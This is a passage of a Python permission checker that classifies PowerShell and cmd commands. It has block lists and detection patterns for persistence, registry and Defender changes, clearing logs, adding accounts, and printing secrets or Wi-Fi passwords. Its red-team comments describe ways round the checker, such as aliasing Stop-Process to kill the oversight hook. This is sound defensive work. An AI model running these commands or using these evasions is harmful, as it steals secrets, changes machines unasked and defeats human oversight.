            return None  # a script file, read as the rules read running a file
        if (
            "command".startswith(name)
            or "encodedcommand".startswith(name)
            or name in ("ec", "cwa", "commandwithargs")
        ):
            return f"{words[0]} runs a command no rule reads"
        if any(p.startswith(name) for p in _PS_VALUED) and ":" not in w:
            k += 1
        k += 1
    return None


def _alias_made(words: list[str], first: str) -> str | None:
    """Why an alias maker's ``words`` make a name whose later uses no rule reads, or None: the command it names
    (its -Value, else its second operand) only lists or shapes output (_ALIAS_READ_VALUES: `Set-Alias ll
    Get-ChildItem`). Import-Alias, a splat, a value given by a variable or an expression: any command."""
    why = f"{words[0]} makes a new name for a command, whose later uses no rule reads"
    if first in ("import-alias", "ipal"):
        return why
    value: str | None = None
    operands: list[str] = []
    named = False
    k = 1
    while k < len(words):
        w = words[k]
        k += 1
        if w[:1] != "-" or len(w) < 2:
            operands.append(w)
            continue
        name, colon, glued = w[1:].partition(":")
        name = name.lower()
        if not any(p.startswith(name) for p in _ALIAS_SWITCHES):
            given = glued if colon else (words[k] if k < len(words) else "")
            k += 0 if colon else 1
            if "value".startswith(name):
                value = given
            named = named or "name".startswith(name)
    if value is None:
        value = operands[0] if named and operands else operands[1] if len(operands) > 1 else None
    if value is None:
        return why
    low = _unquoted(value).lower().rpartition("\\")[2]
    if low in _ALIAS_READ_VALUES or low in _STOPPERS:
        return None  # (a stopper's new name is windows_machine_change's: the hook may be what it stops)
    return why


# An alias maker's switches (they take no value), and the commands an alias may name and stay read: they list,
# select or format what the pipeline holds.
_ALIAS_SWITCHES = ("passthru", "force", "whatif", "confirm")
_ALIAS_READ_VALUES = frozenset(
    {
        "get-childitem", "gci", "ls", "dir", "get-location", "gl", "pwd", "select-object", "select",
        "format-table", "ft", "format-list", "fl", "format-wide", "fw", "measure-object", "measure",
        "sort-object", "sort", "where-object", "where", "?", "group-object", "group", "out-string",
        "get-command", "gcm", "get-help", "help", "get-date", "clear-host", "cls", "clear",
    }
)  # fmt: skip


def _explored(words: list[str]) -> str | None:
    """Why Explorer's ``words`` run what it opens (see _EXPLORERS): an operand (`/select,x.exe` too) named with a
    runnable suffix; an address is the browser's."""
    for w in words[1:]:
        name = w.replace("/", "\\").rpartition("\\")[2].rpartition(",")[2]
        if "://" not in w and "." in name and name.rpartition(".")[2].lower() in RUNNABLE_SUFFIXES:
            return f"{words[0]} runs what it opens, which no rule reads"
    return None


def _name_made(text: str) -> str | None:
    """A function's variable assigned, or an item cmdlet making or changing a name on the Alias: or Function:
    drive (see _ALIAS_MAKERS), or None."""
    if text[:1] == "$" and _FUNCTION_SET(text) is not None:
        return "it makes a function of a string, whose later uses no rule reads"
    if _NAME_DRIVE(text) is None or not _first_is(text, _ITEMS):
        return None
    name = _first_name(text)
    if not name or name in _NAME_REMOVERS:
        return None
    return f"{name} makes a new name for a command on the Alias: or Function: drive, whose later uses no rule reads"


# R4.9 ("programs that run a command line they are given ... are wrappers whose command is a segment"), SPEC §5:
# `cmd /c dir /s /b *.json` runs one of cmd's reading commands, read here as its own words when the line is
# nothing but that: `cmd` or `cmd.exe` as written (no folder: a project's own `cmd.exe` is no reading),
# switches of no effect before `/c` (`/d`, `/q`, `/s`, `/a`, `/u`), then one command of _CMD_READERS whose
# words are plain -- letters, digits, `_ . - * ?` and folders' `\` -- or switches (`/s`, `/o:-d`, `/c:TODO`).
# red team: everything else leaves the line unread, as before -- cmd's `& | < > ^ % !` and parentheses (more
# commands, redirections, escapes, expansions), quotes (which hide them), PowerShell's `$ @ { } ; ` and
# backtick (expanded before cmd sees the line), `..`, a drive (`C:`, `D:x`), a rooted or UNC path, a stream
# (`x:s`), a switch's value naming a file (`findstr /g:..\x`), `/k` (a shell kept open) and `/v:on`.
# friction: a plain word in double quotes (`findstr /s /n "TODO" *.cs`) is that word: a quote there hides
# nothing cmd reads. red team: only a whole word quoted, with no space inside (a quote that starts or ends
# inside a word, or holds a separator, leaves the line unread).
_CMD_READERS = frozenset(
    {"dir", "type", "findstr", "findstr.exe", "where", "where.exe", "tree", "tree.com", "ver", "echo"}
)
_CMD_NO_EFFECT = frozenset({"/d", "/q", "/s", "/a", "/u"})
_CMD_PLAIN = re.compile(r"[\w*?.-][\w.*?\\-]*|/[A-Za-z](?::?-?[A-Za-z0-9]*)?").fullmatch
_CMD_CLEAN = re.compile(r"[\w.*?\\/:\- \"]*").fullmatch


def cmd_line_read(text: str) -> tuple[str, ...] | None:
    """The words of the one reading command the segment ``text`` (led by `cmd`) runs with `/c`, or None when
    it runs anything else or anything more (see above)."""
    if _CMD_CLEAN(text) is None or ".." in text:
        return None
    words = text.split()
    if not words or words[0].lower() not in _CMD:
        return None
    k = 1
    while k < len(words) and words[k].lower() in _CMD_NO_EFFECT:
        k += 1
    if k + 1 >= len(words) or words[k].lower() not in ("/c", "/r"):
        return None
    rest = words[k + 1 :]
    if len(rest) > 1 and rest[0][:1] == '"' and rest[-1][-1:] == '"' and _cmd_strips(words[1:k], rest):
        rest = [rest[0][1:], *rest[1:-1], rest[-1][:-1]]  # `cmd /c "dir /s /b *.json"`: the line in one quote
    line = [w[1:-1] if w[:1] == '"' and len(w) > 2 and w[-1] == '"' else w for w in rest]
    if not line[0]:
        return None
    if line[0].lower() not in _CMD_READERS or not all(_CMD_PLAIN(w) for w in line[1:]):
        return None
    return tuple(line)


def _cmd_strips(switches: list[str], rest: list[str]) -> bool:
    """Whether cmd runs the words of its line ``rest`` (more than one word, in one pair of double quotes) with
    the quotes stripped. red team: without `/s` cmd keeps them when what they hold names a program file (a
    project's `type README.md.bat` for `cmd /c "type README.md"`), so only a line no file can be named by --
    one holding a wildcard (`*`, `?`) -- is read without `/s`."""
    inner = " ".join(rest)
    if inner.count('"') != 2:
        return False
    return any(w.lower() == "/s" for w in switches) or "*" in inner or "?" in inner


def _cmd_unread(words: list[str], text: str) -> str | None:
    """Why cmd's ``words`` (the segment ``text``) run a line no rule reads: `/c`, `/k` or `/r` but for a line
    cmd_line_read reads."""
    if any(w[:2].lower() in ("/c", "/k", "/r") for w in words[1:]) and cmd_line_read(text) is None:
        return f"{words[0]} runs a command no rule reads"
    return None


def _member_called(words: list[str]) -> str | None:
    """Why ForEach-Object's ``words`` call a method on each item (see _EACH above), or None: a script block, or
    a property only read."""
    k = 1
    while k < len(words):
        w = words[k]
        if w[:1] == "{":
            return None  # a script block: its statements are read as segments
        if w[:1] == "-" and len(w) > 1:
            name, colon, value = w[1:].partition(":")
            if not (name and "membername".startswith(name.lower())):
                k += 1  # another parameter (its value, if any, is read as a member's name: over-strict)
                continue
            if not colon:
                k += 1
                if k == len(words):
                    return None
                value = words[k]
            w = value
        if _MEMBER.fullmatch(w) is None or w.lower() in _MEMBERS_READ:
            return None  # not a member's name (a variable, an expression), or a property only read
        return f"{words[0]} {w} calls the method '{w}' of every item: a method no rule reads"
    return None


# Add-Type's parameters that take a value and compile nothing of their own (loading an assembly by its name or
# a file is running a program the project holds)
_ADD_TYPE_VALUED = (
    "name",
    "namespace",
    "usingnamespace",
    "path",
    "literalpath",
    "assemblyname",
    "language",
    "referencedassemblies",
    "outputassembly",
    "outputtype",
    "compileroptions",
)


def _compiles(words: list[str]) -> str | None:
    """red team, R4.9: Add-Type compiling the C# (or VB) it is handed -- `-TypeDefinition`, `-MemberDefinition`
    (a `DllImport` of WinExec), however abbreviated, or an operand (its first position is -TypeDefinition) -- and
    loading it into the shell: inline code for another language. `-AssemblyName x` and `-Path x.dll` load."""
    k = 1
    while k < len(words):
        w = words[k]
        if w[:1] != "-" or len(w) < 2:
            return f"{words[0]} compiles and runs code no rule reads"
        name = w[1:].partition(":")[0].lower()
        if "typedefinition".startswith(name) or "memberdefinition".startswith(name):
            return f"{words[0]} compiles and runs code no rule reads"
        if ":" not in w and any(p.startswith(name) for p in _ADD_TYPE_VALUED):
            k += 1
        k += 1
    return None


# -- where a segment moves, and its words as a program gets them ---------------------------------------------------

# PowerShell's and cmd's commands that change the current folder (cmd's `cd..` is one word)
LOCATION_MOVERS = frozenset(
    {"set-location", "sl", "cd", "chdir", "push-location", "pushd", "pop-location", "popd", "cd.."}
)
_UNKNOWN: str | None = None


MOVES = 1  # windows_moves: the segment moves to a folder
PUSHES = 2  # ... and keeps the folder it leaves on the location stack (Push-Location, pushd)
POPS = 3  # ... back to the folder last pushed (Pop-Location, popd)
_PUSHERS = frozenset({"push-location", "pushd"})
_POPPERS = frozenset({"pop-location", "popd"})


def windows_moves(text: str) -> tuple[int, str | None]:
    """How the segment ``text``, read as PowerShell and cmd read it, changes the current folder -- 0 (not),
    MOVES, PUSHES or POPS -- and to where (a location as :func:`windows_writes` gives it), None when that is
    decided only when it runs: no operand, `-` (the last folder), a named stack, a drive (`C:\\x`, `HKCU:\\`),
    a share or a variable."""
    head = text.split(None, 1)
    if head and (head[0] in _KEYWORDS or head[0][:1] == "@"):  # a keyword before the command (_command_text)
        head = _command_text(text).split(None, 1)
    if not head or _unquoted(head[0]).lower() not in LOCATION_MOVERS:
        return 0, None  # the cheap filter: most segments name no mover
    words = windows_words(text)
    first = words[0].lower()
    if first == "cd..":
        return MOVES, ".."
    if first in _POPPERS:
        return POPS, None if len(words) > 1 else ""  # "": the folder last pushed
    how = PUSHES if first in _PUSHERS else MOVES
    if any(_named(w, ("stackname",), 1) is not None for w in words[1:]):
        return how, _UNKNOWN
    items = _items(words, ())
    given = [w for n, w in items if not n or any(p.startswith(n) for p in _SOURCES)]
    if len(given) != 1:
        return how, _UNKNOWN
    target = _path(given[0])
    if target in ("-", "+") or ":" in target or target.startswith("//"):
        return how, _UNKNOWN
    return how, target


def windows_program_words(text: str) -> tuple[str, ...]:
    """The words a program started from PowerShell or cmd gets from ``text`` -- a backslash separates folders,
    so each is given with ``/`` separators and the home folder as ``~`` -- its redirections left out: the words a
    POSIX program's reading (`tar -C .claude\\hooks`, `sed -i x .git\\config`) takes on Windows."""
    return tuple(_path(w) for w in _redirections(_WORD.findall(_command_text(text)), []))


# -- what changes the machine outside the project on Windows ---------------------------------------------------

_TASKS = "leaves commands to run later on the machine (a scheduled task), outside the project"
_REGISTRY = (
    "changes the Windows registry, outside the project (what runs at logon, the user's environment ...)"
)
_ENVIRONMENT = "sets a persistent environment variable, outside the project"
# (services, installs, settings, the network and disks: the sentences the POSIX rows give, machine.py)
_SHARE = "copies to or from a network share, outside the project"
_ACCOUNTS = "changes the machine's users or groups, outside the project"
_LOGS = "clears or changes the machine's event logs, outside the project"
_RECYCLED = "empties the recycle bin: files deleted earlier, outside the project too, are gone for good"


def _a_share(word: str) -> bool:
    """A network share's path, as an operand or a parameter's glued value (`\\\\srv\\x`, `-Dest:\\\\srv\\x`)."""
    return word[:2] == "\\\\" or word[:1] == "-" and word.partition(":")[2][:2] == "\\\\"


# SPEC §5, R3.7's idea on Windows: what leaves a command for later or changes the machine -- scheduled tasks and
# jobs, the registry (its Run keys, the user's environment), persistent variables, services, PowerShell's
# modules and policy, Defender's exclusions -- whenever it is used: (what it changes, the words after the first
# that keep it a read, or None when every use changes).
_ALWAYS: dict[str, str] = {
    **dict.fromkeys(("get-clipboard", "gcb"), CLIPBOARD),  # red team: what the user copied last
    **dict.fromkeys(
        (
            "register-scheduledtask",
            "set-scheduledtask",
            "unregister-scheduledtask",
            "enable-scheduledtask",
            "disable-scheduledtask",
            "start-scheduledtask",
            "new-scheduledtask",
            "new-scheduledtaskaction",
            "new-scheduledtasktrigger",
            "new-scheduledtasksettingsset",
            "new-scheduledtaskprincipal",
            "register-scheduledjob",
            "set-scheduledjob",
            "enable-scheduledjob",
            "unregister-scheduledjob",
            "new-jobtrigger",
            "add-jobtrigger",
            "set-jobtrigger",
            "register-wmievent",
            "register-cimindicationevent",
        ),
        _TASKS,
    ),
    **dict.fromkeys(
        (
            "set-itemproperty",
            "sp",
            "new-itemproperty",
            "remove-itemproperty",
            "rp",
            "rename-itemproperty",
            "rnp",
            "copy-itemproperty",
            "move-itemproperty",
            "mp",
            "clear-itemproperty",
            "clp",
            "regedit",
            "regedit.exe",
            "regini",
            "regini.exe",
            "set-wmiinstance",
            "swmi",
            "new-ciminstance",
            "set-ciminstance",
        ),
        _REGISTRY,
    ),
    **dict.fromkeys(("setx", "setx.exe"), _ENVIRONMENT),
    **dict.fromkeys(
        (
            "new-service",
            "set-service",
            "start-service",
            "sasv",
            "stop-service",
            "spsv",
            "restart-service",
            "remove-service",
            "suspend-service",
            "resume-service",
            "stop-computer",
            "restart-computer",
            # red team: the user's session logged off or disconnected (every unsaved window of theirs gone)
            "logoff",
            "logoff.exe",
            "tsdiscon",
            "tsdiscon.exe",
        ),
        POWER,
    ),
    "disable-pnpdevice": SETTINGS,  # red team: a device of the machine switched off (a keyboard, a network card)
    **dict.fromkeys(
        (
            "install-module",
            "install-script",
            "install-package",
            "install-psresource",
            "install-packageprovider",
            "update-module",
            "update-script",
            "update-psresource",
            "register-psrepository",
            "register-psresourcerepository",
            "set-psrepository",
            "register-packagesource",
            "add-appxpackage",
            "msiexec",
            "msiexec.exe",
        ),
        INSTALL,
    ),
    **dict.fromkeys(
        (
            "set-executionpolicy",
            "add-mppreference",
            "set-mppreference",
            "remove-mppreference",
            "enable-psremoting",
            "set-wsmaninstance",
            "import-certificate",
            "import-pfxcertificate",
            "new-netfirewallrule",
            "set-netfirewallrule",
            # red team: the machine's name, time zone, language and exploit protection
            "rename-computer",
            "set-timezone",
            "set-winuserlanguagelist",
            "set-winsystemlocale",
            "set-winhomelocation",
            "set-culture",
            "set-processmitigation",
        ),
        SETTINGS,
    ),
    # red team: Windows' optional features and capabilities, provisioned apps (for every user)
    **dict.fromkeys(
        (
            "enable-windowsoptionalfeature",
            "disable-windowsoptionalfeature",
            "add-windowscapability",
            "remove-windowscapability",
            "add-appxprovisionedpackage",
            "remove-appxprovisionedpackage",
            "remove-appxpackage",
            "dism",
            "dism.exe",
        ),
        INSTALL,
    ),
    # red team: the firewall's profiles and rules, adapters, addresses, routes, DNS servers, VPNs and proxies
    **dict.fromkeys(
        (
            "set-netfirewallprofile",
            "enable-netfirewallrule",
            "disable-netfirewallrule",
            "remove-netfirewallrule",
            "set-dnsclientserveraddress",
            "set-dnsclient",
            "set-dnsclientglobalsetting",
            "clear-dnsclientcache",
            "new-netipaddress",
            "set-netipaddress",
            "remove-netipaddress",
            "new-netroute",
            "set-netroute",
            "remove-netroute",
            "enable-netadapter",
            "disable-netadapter",
            "set-netadapter",
            "restart-netadapter",
            "set-netconnectionprofile",
            "add-vpnconnection",
            "set-vpnconnection",
            "new-netnat",
            "set-netipinterface",
        ),
        NETWORK,
    ),
    # red team: local users and groups (an account made, a user added to Administrators)
    **dict.fromkeys(
        (
            "new-localuser",
            "set-localuser",
            "remove-localuser",
            "rename-localuser",
            "enable-localuser",
            "disable-localuser",
            "new-localgroup",
            "remove-localgroup",
            "add-localgroupmember",
            "remove-localgroupmember",
        ),
        _ACCOUNTS,
    ),
    # red team: disks, partitions, volumes and images mounted
    **dict.fromkeys(
        (
            "diskpart",
            "diskpart.exe",
            "mount-diskimage",
            "dismount-diskimage",
            "mount-vhd",
            "dismount-vhd",
            "initialize-disk",
            "clear-disk",
            "set-disk",
            "format-volume",
            "new-partition",
            "remove-partition",
            "resize-partition",
            "set-partition",
        ),
        DISKS,
    ),
    # red team: event logs cleared or switched off (what a person would read afterwards)
    **dict.fromkeys(("clear-eventlog", "remove-eventlog", "limit-eventlog"), _LOGS),
    # red team: the Mark of the Web taken off a downloaded file (SmartScreen and Office then trust it)
    **dict.fromkeys(("unblock-file",), MARKS),
    # red team: Hyper-V's machines, checkpoints and disks deleted or reverted (as `virsh undefine`, `vagrant
    # destroy` on the laptop), its virtual switches removed; modules and packages uninstalled for the user or
    # the machine; the recycle bin emptied (what was deleted earlier, anywhere, is gone for good)
    **dict.fromkeys(
        (
            "remove-vm",
            "remove-vmsnapshot",
            "remove-vmcheckpoint",
            "restore-vmsnapshot",
            "restore-vmcheckpoint",
            "remove-vmharddiskdrive",
        ),
        MACHINES,
    ),
    **dict.fromkeys(("remove-vmswitch", "remove-vmnetworkadapter"), NETWORK),
    **dict.fromkeys(
        (
            "uninstall-package",
            "uninstall-module",
            "uninstall-script",
            "uninstall-psresource",
            "unregister-psrepository",
            "unregister-psresourcerepository",
            "unregister-packagesource",
        ),
        INSTALL,
    ),
    "clear-recyclebin": _RECYCLED,
    # red team (session 22): the user's secret vaults and Windows' credential store changed, as `security
    # add-generic-password` and `secret-tool store` are (permissions.commands.machine)
    **dict.fromkeys(
        (
            "set-secret",
            "remove-secret",
            "unlock-secretstore",
            "reset-secretstore",
            "set-secretstoreconfiguration",
            "set-secretstorepassword",
            "register-secretvault",
            "unregister-secretvault",
            "set-secretvaultdefault",
            "new-storedcredential",
            "remove-storedcredential",
        ),
        KEYCHAIN,
    ),
}
# Programs that change with some of their words (any case, `/create` or `-create`): reg's writing commands,
# schtasks' (all but /query), sc.exe's, wmic's, netsh's, and cmd's `net` changing users, shares or services
_SOME: dict[str, tuple[str, frozenset[str]]] = {
    **dict.fromkeys(
        ("reg", "reg.exe"),
        (_REGISTRY, frozenset({"add", "delete", "import", "copy", "restore", "load", "unload", "flags"})),
    ),
    **dict.fromkeys(
        ("schtasks", "schtasks.exe"), (_TASKS, frozenset({"create", "change", "delete", "run", "end"}))
    ),
    # `sc` is sc.exe in cmd and PowerShell 7 (Set-Content's alias only in Windows PowerShell)
    **dict.fromkeys(
        ("sc", "sc.exe"),
        (
            POWER,
            frozenset(
                {
                    "create",
                    "config",
                    "delete",
                    "start",
                    "stop",
                    "pause",
                    "continue",
                    "control",
                    "failure",
                    "failureflag",
                    "sdset",
                    "privs",
                    "sidtype",
                    "description",
                    "triggerinfo",
                    "managedaccount",
                    "preferrednode",
                }
            ),
        ),
    ),
    **dict.fromkeys(("wmic", "wmic.exe"), (_REGISTRY, frozenset({"call", "create", "set", "delete"}))),
    # (red team: and `netsh wlan connect|disconnect`, the Wi-Fi joined or dropped)
    **dict.fromkeys(
        ("netsh", "netsh.exe"),
        (
            SETTINGS,
            frozenset(
                {"add", "set", "delete", "reset", "install", "uninstall", "import", "connect", "disconnect"}
            ),
        ),
    ),
    # red team: powercfg's changes by either spelling (`-h off`, `-change`, `-x`, `-setactive`/`-s`, `-import`,
    # a setting's value; `/change` was read only as a path outside the project) -- its listings and reports stay
    **dict.fromkeys(
        ("powercfg", "powercfg.exe"),
        (
            POWER,
            frozenset(
                {
                    "change",
                    "x",
                    "setactive",
                    "s",
                    "hibernate",
                    "h",
                    "import",
                    "delete",
                    "d",
                    "deletesetting",
                    "duplicatescheme",
                    "changename",
                    "setacvalueindex",
                    "setdcvalueindex",
                    "attributes",
                    "setsecuritydescriptor",
                    "devicedisablewake",
                    "deviceenablewake",
                    "requestsoverride",
                    "restoredefaultschemes",
                    "hibernatefile",
                }
            ),
        ),
    ),
    # ... and fsutil's settings of the file systems (`fsutil behavior set`, `8dot3name set|strip`, `quota
    # enforce`, `usn deletejournal`, `dirty set`, `resource setautoreset`, a file's valid data or short name); its
    # queries stay, and the files and links it makes are its writes' (permissions.commands.windows' writers)
    **dict.fromkeys(
        ("fsutil", "fsutil.exe"),
        (
            SETTINGS,
            frozenset(
                {
                    "set",
                    "strip",
                    "enforce",
                    "disable",
                    "track",
                    "modify",
                    "violations",
                    "deletejournal",
                    "createjournal",
                    "initiate",
                    "setautoreset",
                    "setconsistent",
                    "setlog",
                    "start",
                    "stop",
                    "setshortname",
                    "setvaliddata",
                    "setzerodata",
                    "seteof",
                    "setcasesensitiveinfo",
                    "setflag",
                    "setrange",
                    "delete",
                    "setintegrityinformation",
                }
            ),
        ),
    ),
    **dict.fromkeys(
        ("net", "net.exe", "net1", "net1.exe"),
        (SETTINGS, frozenset({"add", "delete", "del", "active", "grant", "set"})),
    ),
    # red team: WinRM's listener and its settings (remote management opened), WSL's distributions installed,
    # replaced, removed or mounted, the time zone, and cmd's file associations (`assoc .txt=x`, `ftype x=cmd`:
    # what opening a file runs)
    **dict.fromkeys(
        ("winrm", "winrm.cmd"),
        (SETTINGS, frozenset({"quickconfig", "qc", "set", "create", "delete", "invoke", "configsddl"})),
    ),
    **dict.fromkeys(
        ("wsl", "wsl.exe"),
        (
            INSTALL,
            frozenset(
                {
                    "install",
                    "uninstall",
                    "unregister",
                    "import",
                    "import-in-place",
                    "set-default",
                    "s",
                    "set-version",
                    "set-default-version",
                    "mount",
                    "unmount",
                    "update",
                    "manage",
                    "shutdown",
                    "terminate",
                }
            ),
        ),
    ),
    **dict.fromkeys(("tzutil", "tzutil.exe"), (SETTINGS, frozenset({"s"}))),
    # red team: a BITS job's notification command line, run when the transfer ends (a program run later)
    **dict.fromkeys(("bitsadmin", "bitsadmin.exe"), (_TASKS, frozenset({"setnotifycmdline"}))),
    # red team: Defender's own command line -- its definitions removed, a quarantined threat restored, its
    # platform reset or rolled back (Set-MpPreference is in _ALWAYS)
    **dict.fromkeys(
        ("mpcmdrun", "mpcmdrun.exe"),
        (
            SETTINGS,
            frozenset(
                {"removedefinitions", "restore", "removedynamicsignature", "resetplatform", "revertplatform"}
            ),
        ),
    ),
    **dict.fromkeys(
        ("wevtutil", "wevtutil.exe"),
        (
            _LOGS,
            frozenset(
                {"cl", "clear-log", "sl", "set-log", "im", "install-manifest", "um", "uninstall-manifest"}
            ),
        ),
    ),
}
# cmd's builtins that change with an assignment (`assoc .txt=x`) and print without one (`assoc .txt`)
_ASSIGNERS = {"assoc": SETTINGS, "ftype": SETTINGS}
_NET_SERVICES = frozenset({"start", "stop", "pause", "continue"})
# The item cmdlets (and the writers' aliases) on a registry location (`New-Item HKCU:\\...\\Run`,
# `Set-Item -Path Registry::HKEY_CURRENT_USER\\Environment`), WSMan's settings or the certificate store. (A
# write after `Set-Location HKCU:\\x` is one to a place decided when it runs: protected_writes asks for it.)
_ITEMS = frozenset(WINDOWS_WRITERS) | {"clear-item", "cli"}
_PROVIDERS = re.compile(r"(?i)(?:^|[\s:'\"\\=(])(?:hk(?:cu|lm|cr|u|cc)|wsman|cert):|registry::|hkey_")
# red team, R12.6: PowerShell's Stop-Process and cmd's taskkill / tskill, the twins of `pkill -f brabo` (machine.py
# HOOK_SIGNAL): a process picked by a name Brabo's hook may run as (wildcards too: `-Name py*`), or picked
# only when it runs (a pipeline, a variable, taskkill's /FI filter), may be the hook waiting for a person.
# PowerShell's `kill` is Stop-Process too (read so where it is used as Stop-Process: _powershell_kill), and
# Sysinternals' pskill and pssuspend stop or suspend a process by name or id, as taskkill does.
_SYSINTERNALS = frozenset(
    f"{n}{bits}{exe}" for n in ("pskill", "pssuspend") for bits in ("", "64") for exe in ("", ".exe")
)
# Debug-Process attaches the debugger, which holds the process at a break as a stop does.
_STOPPERS = (
    frozenset(
        {"stop-process", "spps", "taskkill", "taskkill.exe", "tskill", "tskill.exe", "kill", "debug-process"}
    )
    | _SYSINTERNALS
)
# PowerShell's alias makers: a new name for a stopper (`Set-Alias k Stop-Process; k -Name python`) stops what
# the new name is later given, which is not read under it.
_ALIASERS = frozenset({"set-alias", "sal", "new-alias", "nal"})
_CHANGERS = (
    frozenset(_ALWAYS) | frozenset(_SOME) | frozenset(_ASSIGNERS) | _ITEMS | _COPIES | _STOPPERS | _ALIASERS
)
# red team: the Mark of the Web is an alternate data stream -- written, cleared or removed by the item and content
# cmdlets' -Stream (`Remove-Item x -Stream Zone.Identifier`, `-Stream *`) or by a redirection into it (`echo. >
# x.exe:Zone.Identifier`); reading it (`Get-Content x -Stream Zone.Identifier`, `more <`) changes nothing.
_MARK_STREAM = re.compile(r"(?i)zone\.identifier|\s-s(?:t(?:r(?:e(?:am?)?)?)?)?[\s:]+['\"]?[*?]").search
_MARK_NAMED = re.compile(r"(?i)zone\.identifier").search


# red team, §5 where it runs: the environment printed (permissions.commands.peeks' ENVIRONMENT) -- PowerShell's
# env: drive listed or read (`gci env:`, `Get-Item env:GITHUB_TOKEN`, `gc env:X`), a variable of it printed
# (`echo $env:GITHUB_TOKEN`, `Write-Output ${env:X}`, a bare `$env:X`), cmd's `set` (every variable, or those a
# prefix names). The places and modes of SHOWN_VARIABLES (`$env:PATH`, `$env:USERPROFILE`) stay ordinary.
# (any spelling of the drive: `-Path:Env:X`, the provider's `Microsoft.PowerShell.Core\Environment::X`)
_ENV_DRIVE_NAMES = re.compile(
    r"(?i)(?:^|[\s'\"(=:,])(?:microsoft\.powershell\.core\\)?(?:env:|environment::)[\\/]*([\w*?]*)"
)
_ENV_VARIABLE = re.compile(r"(?i)\$\{?env:([\w]+)")
_CMD_VARIABLE = re.compile(
    r"%(\w+)(?::[^%]*)?%"
)  # cmd's `%NAME%`, and `%NAME:~0,4%` / `%NAME:a=b%` (a part of it)
_ENV_DRIVE_OR_VARIABLE = re.compile(r"(?i)(?:^|[\s'\"(=$:,\\])\{?(?:env:|environment::)").search
_ENV_ASSIGNED = re.compile(
    r"(?i)\s*\$\{?env:\w+\}?\s*[-+*/]?=(?!=)"
).match  # `$env:PATH = '.'`: set, not printed
_ENV_READERS = frozenset({"get-childitem", "gci", "ls", "dir", "get-item", "gi", "get-content", "gc", "cat",
                          "type", "get-itemproperty", "gp", "get-itempropertyvalue", "gpv"})  # fmt: skip
_PRINTERS = frozenset({"echo", "write-output", "write", "write-host", "write-information", "write-verbose", "out-host",
                       "out-string", "out-file", "set-content", "add-content", "format-list", "fl", "select-object"})  # fmt: skip
_WINDOWS_SHOWN = frozenset(v.upper() for v in SHOWN_VARIABLES) | frozenset(
    {"USERPROFILE", "APPDATA", "LOCALAPPDATA", "TEMP", "TMP", "PROGRAMFILES", "SYSTEMROOT", "WINDIR", "COMPUTERNAME",
     "USERNAME", "PATHEXT", "OS", "PROCESSOR_ARCHITECTURE", "NUMBER_OF_PROCESSORS", "PSMODULEPATH",
     "DATE", "TIME", "CD", "RANDOM", "ERRORLEVEL"}
)  # fmt: skip


def _cmd_set_switched(text: str) -> bool:
    """A `set` whose first argument is a switch or an option (cmd's `/a`, `/p`; bash's `-e`, `+x`, `--`)."""
    rest = text.split(None, 2)[1:2]
    return bool(rest) and rest[0][:1] in "-+/"


def _windows_environment(text: str, name: str) -> str | None:
    if name == "set":
        named = windows_words(text)[1:]
        if "=" in text or _cmd_set_switched(text):
            return None  # an assignment, cmd's `/a` `/p`, bash's `set -e` / `set +x` / `set --`
        if not named or any(w.upper() not in _WINDOWS_SHOWN for w in named):
            return ENVIRONMENT  # cmd's `set` / `set P`: every variable (whose name starts with P)
        return None
    if name in _ENV_READERS:
        for m in _ENV_DRIVE_NAMES.finditer(text):
            if m.group(1).upper() not in _WINDOWS_SHOWN:
                return ENVIRONMENT
        return None
    if name in _PRINTERS or (name == "" or text.lstrip()[:5].lower() in ("$env:", "${env")):
        if _ENV_ASSIGNED(text) is not None:
            return None  # `$env:FOO='bar'`: set, not printed
        if any(m.group(1).upper() not in _WINDOWS_SHOWN for m in _ENV_VARIABLE.finditer(text)):
            return ENVIRONMENT
        if name in _PRINTERS and any(
            m.group(1).upper() not in _WINDOWS_SHOWN for m in _CMD_VARIABLE.finditer(text)
        ):
            return ENVIRONMENT  # cmd's `echo %GITHUB_TOKEN%` prints it as `echo $env:GITHUB_TOKEN` does
    return None


def _read_outside(text: str, name: str) -> str | None:
    """windows_machine_change's readings whatever the first word: the environment printed, the Mark of the Web, a
    credential store read (red team: permissions.commands.dumps, for its programs and a name spelt oddly)."""
    if "v:" in text or "V:" in text or "::" in text or name == "set" or "%" in text:
        what = _windows_environment(text, name)
        if what is not None:
            return what
    if _MARK_STREAM(text) is not None and (name in _ITEMS or name == "" or ">" in text):
        return MARKS
    if name in DUMP_WINDOWS_NAMES or name == "" or "^" in text or "`" in text:
        return windows_dump(name, windows_words(text))
    return None


def windows_machine_change(text: str) -> str | None:
    """What the segment ``text``, read as PowerShell and cmd read it, changes on the machine outside the project
    (the end of the sentence a person reads, as permissions.commands.machine gives it), or None."""
    name = _first_name(text)
    if name is None:
        return None
    what = _read_outside(text, name)
    if what is not None:
        return what
    if name not in _CHANGERS and name != "":
        return None
    if name in _ITEMS and name not in _SOME and not (name in _COPIES and "\\\\" in text):
        # an item cmdlet changes the machine only on a provider's drive, which a colon names
        return _REGISTRY if ":" in text and _PROVIDERS.search(text) is not None else None
    words = windows_words(text)
    if not words:
        return None
    first = words[0].lower().rpartition("\\")[2]
    if first in _COPIES and any(_a_share(w) for w in words[1:]):
        return _SHARE
    if first in _ITEMS and first not in _SOME:
        return _REGISTRY if ":" in text and _PROVIDERS.search(text) is not None else None
    what = _ALWAYS.get(first)
    if what is not None:
        return what
    if first in _STOPPERS or first in _ALIASERS:
        return _stopping(first, words[1:])
    if first in _ASSIGNERS:
        return _ASSIGNERS[first] if any("=" in w for w in words[1:]) else None
    some = _SOME.get(first)
    if some is not None:
        what, changing = some
        if first.startswith("netsh") and any(w.lower() == "key=clear" for w in words):
            return WIFI  # red team: `netsh wlan show profile name=x key=clear` prints the saved password
        said = [w.lower() for w in words[1:]]
        if any(w.lstrip("/-").partition(":")[0] in changing for w in said):
            return what
        if first.startswith("net") and len(said) > 1 and said[0] in _NET_SERVICES:
            return POWER  # `net stop x` (a bare `net start` lists the services)
        return None
    return None


def _stopping(first: str, args: list[str]) -> str | None:
    """windows_machine_change's reading of a stopper (HOOK_SIGNAL when what it stops may be Brabo's hook), and
    of an alias made for one."""
    if first in _ALIASERS:
        named = {
            _unquoted(w.partition(":")[2] if w[:1] == "-" else w).lower().rpartition("\\")[2] for w in args
        }
        return HOOK_SIGNAL if not named.isdisjoint(_STOPPERS) else None
    if first == "kill" and not _powershell_kill(args):
        return None  # kill(1) of a POSIX shell: permissions.commands.machine reads it
    return _stops_the_hook(first, args)


def _stops_the_hook(first: str, args: list[str]) -> str | None:
